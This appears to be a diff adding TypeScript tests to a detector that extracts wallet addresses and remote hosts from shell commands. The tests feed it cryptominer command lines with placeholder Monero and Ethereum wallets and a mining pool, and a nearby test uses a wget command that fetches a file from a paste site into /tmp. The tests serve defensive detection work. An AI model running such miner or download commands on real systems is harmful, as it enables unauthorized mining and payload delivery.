@@ -59,6 +59,21 @@ describe('a command names', () => {
   });
 });
 
+describe('the wallet that a miner is told', () => {
+  const monero = `4${'A'.repeat(94)}`;
+  const ether = `0x${'a1'.repeat(20)}`;
+  test.each<[string, string, readonly string[]]>([
+    ['of Monero, before the name of a worker', `x -o 192.0.2.9:3333 -u ${monero}.w1 -p x`, [monero]],
+    ['of Monero, integrated', `x --user=${monero}${'B'.repeat(11)}`, [`${monero}${'B'.repeat(11)}`]],
+    ['of Ethereum, as a user', `t-rex -a ethash -u ${ether}.rig`, [ether]],
+    ['of Ethereum, behind its coin', `x -u ETH:${ether}`, [ether]],
+    ['but no digest', `git show 0x${'a1'.repeat(20)} ${'A'.repeat(95)}`, []],
+  ])('is found %s', (_, command, expected) => {
+    const wallets = commandTraces(command).filter(({ type }) => type === 'wallet');
+    expect(wallets.map(({ value }) => value)).toEqual(expected);
+  });
+});
+
 describe('the other ends of a command', () => {
   test.each<[string, string, readonly string[]]>([
     ['by name', 'wget -q https://Paste.example.net/raw/xyz -O /tmp/x', ['domain paste.example.net']],
